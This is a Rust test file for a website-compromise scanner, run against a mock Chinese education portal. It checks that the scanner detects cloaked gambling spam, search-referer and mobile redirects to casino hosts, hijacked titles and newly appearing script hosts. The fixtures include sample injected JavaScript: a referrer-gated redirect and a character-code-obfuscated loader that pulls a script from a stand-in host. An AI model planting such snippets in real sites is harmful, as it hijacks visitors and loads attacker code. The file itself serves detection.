//! Second looks (probes) against in-process kits on 127.0.0.1: spam served
//! only to Baiduspider, only to visitors from a Baidu search result (with
//! and without a first-visit cookie), only to phones; and portals that must
//! stay clean: dynamic text, a firewall that refuses fake spiders, a mobile
//! version on the same site.

use crate::support::server::{Reply, Request, Server};
use sitesweep::findings::Finding;
use sitesweep::register::Register;
use sitesweep::rules::{Packs, RuleSet};
use sitesweep::scan::{self, ScanOptions, ScanResult};
use std::path::Path;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};

type Handler = dyn Fn(&Request) -> Reply + Send + Sync;

/// A site from a handler, logging (user agent, path) of every request.
struct Kit {
    server: Server,
    log: Arc<Mutex<Vec<(String, String)>>>,
}

impl Kit {
    fn new(handler: Arc<Handler>) -> Kit {
        let log = Arc::new(Mutex::new(Vec::new()));
        let seen = log.clone();
        let server = Server::start(Arc::new(move |req: &Request| {
            let ua = req.headers.get("user-agent").cloned().unwrap_or_default();
            seen.lock().unwrap().push((ua, req.target.clone()));
            handler(req)
        }))
        .unwrap();
        Kit { server, log }
    }

    /// Paths requested with a user agent containing `needle`.
    fn requested_by(&self, needle: &str) -> Vec<String> {
        self.log
            .lock()
            .unwrap()
            .iter()
            .filter(|(ua, p)| ua.contains(needle) && p != "/robots.txt")
            .map(|(_, p)| p.clone())
            .collect()
    }
}

fn page(title: &str, body: &str) -> Reply {
    Reply::html(format!(
        "<html><head><meta charset=utf-8><title>{title}</title></head><body>{body}</body></html>"
    ))
}

const NOTICE: &str = "<p>区教育局关于做好秋季学期开学工作的通知。各学校：为做好秋季学期开学各项工作，现将有关事项通知如下。一、加强校园安全管理，落实门卫登记制度。二、做好传染病防控，开展晨午检。三、落实教学计划，保障课程开齐开足。四、做好学生资助，确保应助尽助。</p>";

fn portal(req: &Request) -> Reply {
    match req.path() {
        "/" => page(
            "区教育局",
            &format!("{NOTICE}<a href=/news/1.html>通知一</a><a href=/news/2.html>通知二</a>"),
        ),
        "/news/1.html" | "/news/2.html" => page("通知", NOTICE),
        _ => Reply::status(404),
    }
}

const SPAM: &str = "<h1>澳门新葡京娱乐城</h1><p>百家乐 真人视讯 网上赌场 注册送彩金 老虎机 在线投注 体育博彩 六合彩 特码 开奖结果 现金网 皇冠体育 官方网站 最新网址 免费试玩 优惠活动 天天返水 无限制</p><a href=http://xpj.example/>新葡京</a>";

fn scan(kit: &Kit, dir: &Path, extra: &str, db: Option<&Path>) -> ScanResult {
    let path = dir.join("sites.toml");
    std::fs::write(
        &path,
        format!(
            "[[site]]\nid = \"edu\"\nname = \"区教育局\"\nurl = \"{}\"\noperator = \"办公室\"\nallow_private = true\n{}check_outbound = false\n{extra}\n",
            kit.server.url("/"),
            if extra.contains("timeout_s") { "" } else { "timeout_s = 5\n" }
        ),
    )
    .unwrap();
    let reg = Register::load(&path).unwrap();
    let rules = Arc::new(RuleSet::compile(Packs::builtin()).unwrap());
    scan::run(
        &reg,
        rules,
        ScanOptions {
            db: db.map(Path::to_path_buf),
            keep_records: true,
            ..ScanOptions::default()
        },
    )
    .unwrap()
}

fn of<'a>(r: &'a ScanResult, rule: &str) -> Vec<&'a Finding> {
    r.findings.iter().filter(|f| f.rule == rule).collect()
}

fn cloaks(r: &ScanResult) -> Vec<&Finding> {
    r.findings
        .iter()
        .filter(|f| f.rule.starts_with("cloak."))
        .collect()
}

#[test]
fn spam_served_only_to_baiduspider_is_found_with_both_answers() {
    let kit = Kit::new(Arc::new(|req: &Request| {
        let ua = req.headers.get("user-agent").cloned().unwrap_or_default();
        if ua.contains("Baiduspider") && req.path() == "/" {
            return page("澳门新葡京", SPAM);
        }
        portal(req)
    }));
    let dir = tempfile::tempdir().unwrap();
    let r = scan(&kit, dir.path(), "", None);
    let cloak = of(&r, "cloak.user-agent");
    assert_eq!(cloak.len(), 1, "{:#?}", r.findings);
    let f = cloak[0];
    assert_eq!(f.severity.name(), "critical");
    assert_eq!(f.url, kit.server.url("/"));
    assert!(f.snippet.contains("browser: HTTP 200"), "{}", f.snippet);
    assert!(f.snippet.contains("baiduspider: HTTP 200"), "{}", f.snippet);
    assert!(
        f.snippet.contains("only in the probe's answer"),
        "{}",
        f.snippet
    );
    assert!(f.snippet.contains("text similarity"), "{}", f.snippet);
    // The spam words, as seen by the probe, with the probe in the finding
    // and in its fingerprint.
    let seen_by_probe: Vec<&Finding> = r
        .findings
        .iter()
        .filter(|f| f.probe.as_deref() == Some("baiduspider"))
        .collect();
    assert!(
        seen_by_probe.iter().any(|f| f.category == "gambling"),
        "{seen_by_probe:#?}"
    );
    // A browser sees none of it, and the other probes see nothing either.
    assert!(r
        .findings
        .iter()
        .all(|f| f.category != "gambling" || f.probe.is_some()));
    assert!(of(&r, "cloak.referer").is_empty() && of(&r, "cloak.mobile").is_empty());
    let summary = &r.sites[0];
    let names: Vec<&str> = summary.probes.iter().map(|p| p.probe.as_str()).collect();
    assert_eq!(names, ["baiduspider", "search-referer", "mobile"]);
    assert_eq!(summary.probes[0].differed, 1);
    assert_eq!(summary.probes[1].differed, 0);
}

#[test]
fn visitors_from_a_search_result_sent_elsewhere_by_referer_and_by_first_visit_cookie() {
    let kit = Kit::new(Arc::new(|req: &Request| {
        let from_baidu = req
            .headers
            .get("referer")
            .is_some_and(|r| r.contains("baidu.com"));
        let returning = req
            .headers
            .get("cookie")
            .is_some_and(|c| c.contains("seen=1"));
        match req.path() {
            // Server-side referer check.
            "/news/1.html" if from_baidu => Reply::redirect(302, "http://xpj-casino.example/"),
            // Only the first visit from a search result (the kit then
            // sets a cookie, so the victim's second look is clean).
            "/news/2.html" if from_baidu && !returning => page("新葡京", SPAM),
            _ => portal(req),
        }
    }));
    let dir = tempfile::tempdir().unwrap();
    let r = scan(&kit, dir.path(), "", None);
    let cloak = of(&r, "cloak.referer");
    assert_eq!(cloak.len(), 2, "{:#?}", r.findings);
    let by_url = |p: &str| {
        cloak
            .iter()
            .find(|f| f.url == kit.server.url(p))
            .unwrap_or_else(|| panic!("{p}: {cloak:#?}"))
    };
    assert!(by_url("/news/1.html")
        .snippet
        .contains("sent elsewhere: http://xpj-casino.example/"));
    assert!(by_url("/news/2.html")
        .snippet
        .contains("only in the probe's answer"));
    // The redirect was not followed off the site.
    assert!(of(&r, "cloak.user-agent").is_empty() && of(&r, "cloak.mobile").is_empty());
}

#[test]
fn phones_sent_to_a_casino_are_found_but_a_mobile_version_on_the_site_is_not() {
    let kit = Kit::new(Arc::new(|req: &Request| {
        let ua = req.headers.get("user-agent").cloned().unwrap_or_default();
        let phone = ua.contains("iPhone");
        match req.path() {
            "/" if phone => Reply::redirect(302, "/m/"),
            "/m/" => page(
                "区教育局（手机版）",
                "<p>通知公告</p><a href=/news/1.html>通知一</a>",
            ),
            "/news/2.html" if phone => Reply::redirect(302, "http://m.bet-casino.example/"),
            _ => portal(req),
        }
    }));
    let dir = tempfile::tempdir().unwrap();
    let r = scan(&kit, dir.path(), "", None);
    let cloak = of(&r, "cloak.mobile");
    assert_eq!(cloak.len(), 1, "{:#?}", r.findings);
    assert_eq!(cloak[0].url, kit.server.url("/news/2.html"));
    assert!(cloak[0].snippet.contains("m.bet-casino.example"));
    assert_eq!(cloaks(&r).len(), 1, "{:#?}", cloaks(&r));
}

#[test]
fn dynamic_portals_and_firewalls_refusing_fake_spiders_stay_clean() {
    let hits = Arc::new(AtomicUsize::new(0));
    let counter = hits.clone();
    let kit = Kit::new(Arc::new(move |req: &Request| {
        let ua = req.headers.get("user-agent").cloned().unwrap_or_default();
        // A web firewall that checks Baiduspider by reverse DNS refuses a
        // scanner that only claims to be it.
        if ua.contains("Baiduspider") {
            return Reply::status(403);
        }
        // Each answer differs a little: a visit counter and the time.
        let n = counter.fetch_add(1, Ordering::SeqCst);
        match req.path() {
            "/" | "/news/1.html" | "/news/2.html" => page(
                "区教育局",
                &format!(
                    "{NOTICE}<p>今天是2026年11月{}日 访问量 {}</p><a href=/news/1.html>通知一</a><a href=/news/2.html>通知二</a>",
                    n % 28 + 1,
                    1000 + n * 37
                ),
            ),
            _ => Reply::status(404),
        }
    }));
    let dir = tempfile::tempdir().unwrap();
    let r = scan(&kit, dir.path(), "", None);
    assert!(cloaks(&r).is_empty(), "{:#?}", cloaks(&r));
    assert!(r.findings.iter().all(|f| f.probe.is_none()));
    // Every probe looked at the three pages.
    assert!(
        r.sites[0].probes.iter().all(|p| p.pages == 3),
        "{:?}",
        r.sites[0].probes
    );
    assert_eq!(kit.requested_by("Baiduspider").len(), 3);
    assert_eq!(kit.requested_by("iPhone").len(), 3);
}

#[test]
fn probes_stay_within_probe_pages_and_look_at_new_pages_first() {
    let links: String = (1..=30)
        .map(|i| format!("<a href=/p/{i}.html>第{i}篇</a>"))
        .collect();
    let extra_page = Arc::new(Mutex::new(false));
    let flag = extra_page.clone();
    let kit = Kit::new(Arc::new(move |req: &Request| {
        let with_new = *flag.lock().unwrap();
        match req.path() {
            "/" => page(
                "区教育局",
                &format!(
                    "{NOTICE}{links}{}",
                    if with_new {
                        "<a href=/new.html>新通知</a>"
                    } else {
                        ""
                    }
                ),
            ),
            p if p.starts_with("/p/") || p == "/new.html" => page("通知", NOTICE),
            _ => Reply::status(404),
        }
    }));
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("s.db");
    let r = scan(&kit, dir.path(), "probe_pages = 3", Some(&db));
    assert_eq!(r.sites[0].pages_fetched, 31);
    for (probe, ua) in [("baiduspider", "Baiduspider"), ("mobile", "iPhone")] {
        let looked = kit.requested_by(ua);
        assert_eq!(looked.len(), 3, "{probe}: {looked:?}");
        assert_eq!(looked[0], "/", "the start page first");
    }
    // At most 3 × probe_pages requests more than the crawl.
    let total = kit
        .log
        .lock()
        .unwrap()
        .iter()
        .filter(|(_, p)| p != "/robots.txt")
        .count();
    assert_eq!(total, 31 + 3 * 3);

    // The next scan: the page added since is looked at right after the
    // start page.
    *extra_page.lock().unwrap() = true;
    kit.log.lock().unwrap().clear();
    scan(&kit, dir.path(), "probe_pages = 3", Some(&db));
    let looked = kit.requested_by("Baiduspider");
    assert_eq!(&looked[..2], ["/", "/new.html"], "{looked:?}");
}

#[test]
fn probes_off_means_no_second_request() {
    let kit = Kit::new(Arc::new(portal));
    let dir = tempfile::tempdir().unwrap();
    let r = scan(&kit, dir.path(), "probes = []", None);
    assert!(r.sites[0].probes.is_empty());
    assert_eq!(kit.requested_by("Baiduspider").len(), 0);
    let total = kit
        .log
        .lock()
        .unwrap()
        .iter()
        .filter(|(_, p)| p != "/robots.txt")
        .count();
    assert_eq!(total, 3);
}

#[test]
fn a_script_host_new_since_the_last_scan_is_reported_once_and_trusted_hosts_never() {
    let second = Arc::new(Mutex::new(false));
    let flag = second.clone();
    let kit = Kit::new(Arc::new(move |req: &Request| {
        let later = *flag.lock().unwrap();
        let scripts = if later {
            "<script src=\"http://cdn-a.example/jquery.js\"></script>\
             <script src=\"https://evil-loader.example/j.js\"></script>\
             <script>document.write('<scr'+'ipt src=\"http://written.example/a.js\"></scr'+'ipt>');</script>\
             <script src=\"https://hm.baidu.com/hm.js?abc\"></script>\
             <iframe src=\"/inner.html\"></iframe>"
        } else {
            "<script src=\"http://cdn-a.example/jquery.js\"></script>"
        };
        match req.path() {
            "/" | "/news/1.html" => page(
                "区教育局",
                &format!("{NOTICE}<a href=/news/1.html>通知</a>{scripts}"),
            ),
            _ => Reply::status(404),
        }
    }));
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("s.db");
    let extra = "probes = []\ntrusted_domains = [\"baidu.com\"]";
    let first = scan(&kit, dir.path(), extra, Some(&db));
    // The first scan is the baseline.
    assert!(
        of(&first, "script.new-host").is_empty(),
        "{:#?}",
        first.findings
    );
    assert_eq!(first.sites[0].script_hosts, ["cdn-a.example"]);

    *second.lock().unwrap() = true;
    let next = scan(&kit, dir.path(), extra, Some(&db));
    let new: Vec<&str> = of(&next, "script.new-host")
        .iter()
        .map(|f| f.term.as_str())
        .collect();
    // Once per host, though two pages carry them.
    assert_eq!(new.len(), 2, "{:#?}", of(&next, "script.new-host"));
    assert!(
        new.contains(&"evil-loader.example") && new.contains(&"written.example"),
        "{new:?}"
    );
    assert_eq!(
        next.sites[0].script_hosts,
        [
            "cdn-a.example",
            "evil-loader.example",
            "hm.baidu.com",
            "written.example"
        ]
    );
    let f = of(&next, "script.new-host")[0];
    assert_eq!(f.severity.name(), "medium");
    assert!(f.snippet.contains("previous scan"), "{}", f.snippet);

    // A third scan sees nothing new.
    let third = scan(&kit, dir.path(), extra, Some(&db));
    assert!(of(&third, "script.new-host").is_empty());
}

#[test]
fn a_referrer_gated_redirect_script_is_found_in_a_scan_and_a_mobile_redirect_to_the_site_is_not() {
    let kit = Kit::new(Arc::new(|req: &Request| {
        match req.path() {
        "/" => page(
            "区教育局",
            &format!(
                "{NOTICE}<a href=/news/1.html>通知</a><script src=/js/common.js></script>\
                 <script>if(/iPhone|Android/i.test(navigator.userAgent)){{location.href='/m/';}}</script>"
            ),
        ),
        "/news/1.html" => page("通知", NOTICE),
        // The site's own script with a hijack appended, as kits do.
        "/js/common.js" => Reply::with_type(
            200,
            "application/javascript",
            "function nav(){}\nvar r=/\\.(sogou|soso|baidu|so|sm)(\\.[a-z0-9\\-]+){1,2}\\//ig;\
             var w=document.referrer;if(r.test(w)){window.location.href='http://www.xpj-casino.example/';}",
        ),
        _ => Reply::status(404),
    }
    }));
    let dir = tempfile::tempdir().unwrap();
    let r = scan(&kit, dir.path(), "probes = []", None);
    let found = of(&r, "script.conditional-redirect");
    assert_eq!(found.len(), 1, "{:#?}", r.findings);
    assert_eq!(found[0].url, kit.server.url("/js/common.js"));
    assert_eq!(found[0].severity.name(), "critical");
    assert!(found[0].term.starts_with("referrer:"), "{}", found[0].term);
}

#[test]
fn a_loader_that_hides_its_address_is_found_in_a_scan_and_the_site_badge_is_not() {
    let kit = Kit::new(Arc::new(|req: &Request| {
        match req.path() {
        "/" => page(
            "区教育局",
            &format!(
                "{NOTICE}<script src=/js/common.js></script>\
                 <script>document.write(unescape(\"%3Cspan id='_ideConac'%3E%3C/span%3E%3Cscript src='http://dcs.conac.cn/js/33/000/0000/1.js'%3E%3C/script%3E\"));</script>"
            ),
        ),
        // The site's own script with a loader appended: `script` and
        // `https://cdn.jsdelivr-js.example/s.js` as character codes.
        "/js/common.js" => Reply::with_type(
            200,
            "application/javascript",
            "function nav(){}\nvar sc=document.createElement(String.fromCharCode(115,99,114,105,112,116));\
             sc.src=String.fromCharCode(104,116,116,112,115,58,47,47,99,100,110,46,106,115,100,101,108,105,118,114,45,106,115,46,101,120,97,109,112,108,101,47,115,46,106,115);\
             document.head.appendChild(sc);",
        ),
        _ => Reply::status(404),
    }
    }));
    let dir = tempfile::tempdir().unwrap();
    let r = scan(&kit, dir.path(), "probes = []", None);
    let found = of(&r, "script.encoded-url");
    assert_eq!(found.len(), 1, "{:#?}", r.findings);
    assert_eq!(found[0].url, kit.server.url("/js/common.js"));
    assert_eq!(found[0].severity.name(), "high");
    assert_eq!(found[0].term, "cdn.jsdelivr-js.example->src");
    assert!(
        found[0]
            .snippet
            .contains("https://cdn.jsdelivr-js.example/s.js"),
        "{}",
        found[0].snippet
    );
}

#[test]
fn a_probe_that_gets_no_answer_three_times_in_a_row_stops() {
    let links: String = (1..=8)
        .map(|i| format!("<a href=/p/{i}.html>第{i}篇</a>"))
        .collect();
    let kit = Kit::new(Arc::new(move |req: &Request| {
        let ua = req.headers.get("user-agent").cloned().unwrap_or_default();
        if ua.contains("Baiduspider") {
            return Reply::Stall(std::time::Duration::from_secs(10));
        }
        match req.path() {
            "/" => page("区教育局", &format!("{NOTICE}{links}")),
            p if p.starts_with("/p/") => page("通知", NOTICE),
            _ => Reply::status(404),
        }
    }));
    let dir = tempfile::tempdir().unwrap();
    let r = scan(&kit, dir.path(), "timeout_s = 1\nprobe_pages = 8", None);
    let s = &r.sites[0];
    let spider = s.probes.iter().find(|p| p.probe == "baiduspider").unwrap();
    assert_eq!(spider.pages, 3, "{:?}", s.probes);
    assert!(
        s.notes
            .iter()
            .any(|n| n.contains("probe baiduspider stopped")),
        "{:?}",
        s.notes
    );
    // The other probes looked at every chosen page.
    let mobile = s.probes.iter().find(|p| p.probe == "mobile").unwrap();
    assert_eq!(mobile.pages, 8, "{:?}", s.probes);
    assert!(cloaks(&r).is_empty());
}

#[test]
fn titles_changed_since_the_last_scan_are_reported_until_they_go_back() {
    // 0: as the site was; 1: hijacked (a name put before four titles, a
    // word swapped in one, the date on the home page moved on); 2: still
    // hijacked; 3: cleaned up.
    let state = Arc::new(AtomicUsize::new(0));
    let now = state.clone();
    let kit = Kit::new(Arc::new(move |req: &Request| {
        let hijacked = matches!(now.load(Ordering::SeqCst), 1 | 2);
        let brand = if hijacked { "鸿运来-" } else { "" };
        let links = "<a href=/n1.html>一</a><a href=/n2.html>二</a><a href=/n3.html>三</a>\
                     <a href=/n4.html>四</a><a href=/forum.html>论坛</a>";
        match req.path() {
            "/" => page(
                if now.load(Ordering::SeqCst) == 0 {
                    "区教育局 2026年11月30日"
                } else {
                    "区教育局 2026年12月1日"
                },
                &format!("{NOTICE}{links}"),
            ),
            "/n1.html" | "/n2.html" | "/n3.html" | "/n4.html" => {
                let news = &req.path()[1..3];
                page(&format!("{brand}通知{news}-区教育局"), NOTICE)
            }
            "/forum.html" => page(
                if hijacked {
                    "鸿福足球学科建设论坛"
                } else {
                    "体育学科建设论坛"
                },
                NOTICE,
            ),
            _ => Reply::status(404),
        }
    }));
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("s.db");
    let extra = "probes = []";
    let first = scan(&kit, dir.path(), extra, Some(&db));
    assert!(
        of(&first, "title.changed").is_empty(),
        "{:#?}",
        first.findings
    );

    state.store(1, Ordering::SeqCst);
    let hijacked = scan(&kit, dir.path(), extra, Some(&db));
    let changed = of(&hijacked, "title.changed");
    assert_eq!(changed.len(), 2, "{changed:#?}");
    let site_wide = changed
        .iter()
        .find(|f| f.url == kit.server.url("/"))
        .expect("one finding for the four pages");
    assert!(
        site_wide.snippet.contains("4 个页面") && site_wide.snippet.contains("加入“鸿运来-”"),
        "{}",
        site_wide.snippet
    );
    let forum = changed
        .iter()
        .find(|f| f.url.ends_with("/forum.html"))
        .unwrap();
    assert!(
        forum
            .snippet
            .contains("原为“体育学科建设论坛”，现为“鸿福足球学科建设论坛”"),
        "{}",
        forum.snippet
    );
    assert_eq!(forum.severity.name(), "medium");
    assert_eq!(forum.category, "title-hijack");

    // Still hijacked: the same findings, not swallowed into the baseline.
    let still = scan(&kit, dir.path(), extra, Some(&db));
    let mut before: Vec<&str> = changed.iter().map(|f| f.fingerprint.as_str()).collect();
    let mut after: Vec<&str> = of(&still, "title.changed")
        .iter()
        .map(|f| f.fingerprint.as_str())
        .collect();
    before.sort_unstable();
    after.sort_unstable();
    assert_eq!(before, after);

    // Cleaned up: nothing.
    state.store(3, Ordering::SeqCst);
    let clean = scan(&kit, dir.path(), extra, Some(&db));
    assert!(
        of(&clean, "title.changed").is_empty(),
        "{:#?}",
        of(&clean, "title.changed")
    );
}
